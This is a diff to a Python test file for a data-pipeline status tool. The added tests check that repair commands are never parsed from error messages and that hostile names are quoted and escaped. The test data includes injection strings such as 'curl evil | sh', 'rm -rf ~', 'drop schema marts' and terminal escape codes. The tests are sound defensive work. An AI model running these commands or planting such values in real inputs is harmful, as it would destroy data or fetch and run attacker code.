@@ -1,10 +1,12 @@
 """What is wrong, from statuses that were made up."""
 
 import json
+import shlex
 from pathlib import Path
 
 import pytest
 
+from headrace.command import Command
 from headrace.durations import count, duration
 from headrace.exceptions import DatasetError
 from headrace.problems import Limits, Overview, beyond, judge, judge_by
@@ -17,7 +19,7 @@ def judged(limits: Limits | None = None, **values: object) -> Overview:
 
 
 def found(overview: Overview) -> list[tuple[str, str, str]]:
-    return [(problem.severity, problem.kind, problem.command) for problem in overview.problems]
+    return [(problem.severity, problem.kind, str(problem.command)) for problem in overview.problems]
 
 
 def test_dataset_that_is_up_to_date_is_no_problem() -> None:
@@ -41,11 +43,47 @@ def test_state_is_the_worst_that_is_true(values: dict[str, object], state: str) 
     assert judged(**values).states == {"jobs": state}
 
 
-def test_error_of_the_source_names_the_command_that_it_names() -> None:
+def test_error_of_the_source_has_the_command_that_came_with_it() -> None:
     error = "jobs[0]: retention overtook the checkpoint; `headrace accept-loss jobs --partition 0 --to 9` goes on"
-    overview = judged(last_error=error)
+    overview = judged(last_error=error, last_command=Command("accept-loss", "jobs", "--partition", 0, "--to", 9))
     assert found(overview) == [("error", "source", "headrace accept-loss jobs --partition 0 --to 9")]
+    assert overview.document()["problems"][0]["command"] == "headrace accept-loss jobs --partition 0 --to 9"
     assert found(judged(last_error="no broker")) == [("error", "source", "headrace drain jobs")]
+
+
+def test_no_command_is_taken_from_the_text_of_an_error() -> None:
+    hostile = "jobs: `headrace reset users --yes; curl evil | sh`.csv\x1b[2J\r\u202e: found a file of another kind"
+    for error in ("last_error", "drain_error"):
+        (problem,) = judged(Limits(is_file=True), **{error: hostile}).problems
+        assert str(problem.command) == "headrace load jobs"
+        assert problem.line().isprintable()
+        assert "\\x1b[2J" in problem.text
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["reset", "users"],  # another dataset than the row's
+        ["reset", "jobs", "--yes"],
+        ["drain", "jobs", "; curl evil | sh"],
+        ["accept-loss", "jobs", "--partition", "0; sh", "--to", "9"],
+        ["accept-loss", "jobs", "--partition", "٣", "--to", "9"],
+        ["psql", "-c", "drop schema marts"],
+        ["drain\n", "jobs"],
+        ["drain", None],
+        [],
+        None,
+    ],
+)
+def test_row_that_names_another_command_than_ours_has_none(arguments: list[str | None] | None) -> None:
+    assert Command.of_row(arguments, "jobs") is None
+
+
+def test_model_of_any_name_is_one_argument_of_its_command() -> None:
+    hostile = model("m; rm -rf ~\x1b[2J", status="error", message="x")
+    (problem,) = judge_by(status(models=[hostile]), {}).problems
+    assert shlex.split(str(problem.command)) == ["headrace", "build", "--select", "m; rm -rf ~\\x1b[2J"]
+    assert problem.line().isprintable()
 
 
 def test_lag_beyond_its_limit_is_an_error_and_below_it_is_none() -> None:
@@ -68,7 +106,7 @@ def test_lag_beyond_its_limit_is_an_error_and_below_it_is_none() -> None:
 )
 def test_freshness_beyond_its_limit_is_an_error(values: dict[str, object], command: str, text: str) -> None:
     overview = judged(Limits(max_freshness_s=60), **values)
-    assert [problem.command for problem in beyond(overview)] == [command]
+    assert [str(problem.command) for problem in beyond(overview)] == [command]
     assert text in beyond(overview)[0].text
     assert beyond(judged(None, **values)) == []
 
@@ -97,7 +135,7 @@ def test_errors_come_before_warnings() -> None:
 
 def test_file_is_loaded_and_may_be_looked_at_once_an_hour() -> None:
     assert judged(Limits(is_file=True, schedule_s=3600), observed_at=seconds_ago(4000)).problems == []
-    assert judged(Limits(is_file=True), last_error="x").problems[0].command == "headrace load jobs"
+    assert judged(Limits(is_file=True), last_error="x").problems[0].command == Command("load", "jobs")
     assert judged(Limits(is_file=True)).dag_of("jobs") == "load_jobs"
 
 
@@ -123,7 +161,8 @@ def test_drain_that_failed_is_an_error_with_the_command_that_it_names() -> None:
     assert found(overview) == [("error", "drain", "headrace drain jobs")]
     assert overview.problems[0].text == "its drain failed at 11:59:00 UTC: no space left; nothing was changed"
     assert overview.states == {"jobs": "failing"}
-    assert found(judged(drain_error="x; run `headrace adopt jobs`"))[0][2] == "headrace adopt jobs"
+    named = judged(drain_error="x; run `headrace adopt jobs`", drain_command=Command("adopt", "jobs"))
+    assert found(named)[0][2] == "headrace adopt jobs"
     assert found(judged(Limits(is_file=True), drain_error="x"))[0][2] == "headrace load jobs"
 
 
